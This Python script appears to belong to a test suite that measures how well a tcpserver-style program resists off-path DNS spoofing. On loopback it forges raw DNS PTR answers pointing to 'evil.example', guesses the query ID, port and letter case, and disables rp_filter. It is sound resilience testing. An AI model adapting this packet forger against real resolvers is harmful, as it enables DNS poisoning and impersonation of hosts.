#!/usr/bin/env python3
"""How many packets an answerer needs that sees no question (off the path) and guesses its
number, port and letters: counted on loopback, where nothing is lost. It is told more than
it would know, to have anything to count: with the port, with the letters, with both.

What it is told nothing of follows: the chances multiply. docs/threats.md has the figures;
no test depends on them.
"""
import argparse
import functools
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, "..", "support")]
import observe  # noqa: E402
import runner  # noqa: E402
import servers as S  # noqa: E402


class Slow(S.Dns):
    """Tells who asks, and answers after a while: so long the other may guess."""

    def __init__(self, answers, wait):
        self.queries = []
        super().__init__(answers, wait)

    def answer(self, query):
        self.queries.append(query)
        return super().answer(query)


def guess(server, dns, told, seconds):
    """How many packets were sent while how many questions waited, and how many of those
    were answered wrongly; `told` is what the answerer knows."""
    sent = found = rounds = 0
    began = time.monotonic()
    back = S.reverse("127.0.0.1")
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while time.monotonic() - began < seconds:
        rounds += 1
        result = []
        client = threading.Thread(target=lambda: result.append(ask(server)))
        client.start()
        time.sleep(.02)
        query, port = dns.queries[-1], port_of(server)
        letters = query[12:12 + len(S.wire(back))]
        until = time.monotonic() + .5
        while client.is_alive() and time.monotonic() < until:
            for _ in range(200):
                number = random.getrandbits(16)
                name = letters if "letters" in told else bytes(
                    b ^ 0x20 if chr(b).isalpha() and random.getrandbits(1) else b
                    for b in letters)
                to = port if "port" in told else random.randrange(32768, 61000)
                raw.sendto(packet(number, name, to), ("127.0.0.1", 0))
                sent += 1
        client.join()
        found += result == [b"evil.example\n"]
    raw.close()
    return sent, found, rounds


def packet(number, name, port):
    """An answer from the name server's address, as a whole IP packet."""
    answer = struct.pack(">HHHHHH", number, 0x8180, 1, 1, 0, 0) + name + \
        struct.pack(">HH", S.PTR, 1) + S.ptr("evil.example")
    udp = struct.pack(">HHHH", 53, port, 8 + len(answer), 0) + answer
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                       socket.inet_aton("127.0.0.1"), socket.inet_aton("127.0.0.1")) + udp


def ask(server):
    with socket.create_connection(("127.0.0.1", server.port)) as client:
        client.settimeout(30)
        told = b""
        while piece := client.recv(100):
            told += piece
    return told


def measure(args, folder):
    case = observe.Case(args.bin, os.path.join(args.bin, "tcprules"), folder)
    true = {(S.reverse("127.0.0.1"), S.PTR): [S.ptr("true.example")]}
    with Slow(true, .6) as dns, \
            case.server("-vRl0", program=["sh", "-c", "echo $TCPREMOTEHOST"],
                        env={"DNSCACHEIP": "127.0.0.1"}) as server:
        for told in (("port", "letters"), ("letters",), ("port",), ()):
            sent, found, rounds = guess(server, dns, told, args.seconds)
            print(f"told {' and '.join(told) or 'nothing'}: {sent} packets, {rounds} questions, "
                  f"{found} of them answered wrongly")


def port_of(server):
    """The port that a question was sent from, as the system tells."""
    fds = f"/proc/{server.process.pid}/fd"
    mine = {os.readlink(os.path.join(fds, f)) for f in os.listdir(fds)}
    with open("/proc/net/udp", encoding="ascii") as f:
        for line in f.readlines()[1:]:
            words = line.split()
            if f"socket:[{words[9]}]" in mine and words[2].endswith(":0035"):
                return int(words[1].rpartition(":")[2], 16)
    return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--bin", required=True)
    parser.add_argument("--seconds", type=float, default=20, help="for each kind")
    args = parser.parse_args()
    args.bin = os.path.abspath(args.bin)
    if not S.isolate():
        return 77
    subprocess.run(["sysctl", "-qw", "net.ipv4.conf.all.rp_filter=0"], check=False)
    return runner.run([functools.update_wrapper(functools.partial(measure, args), measure)])


if __name__ == "__main__":
    sys.exit(main())
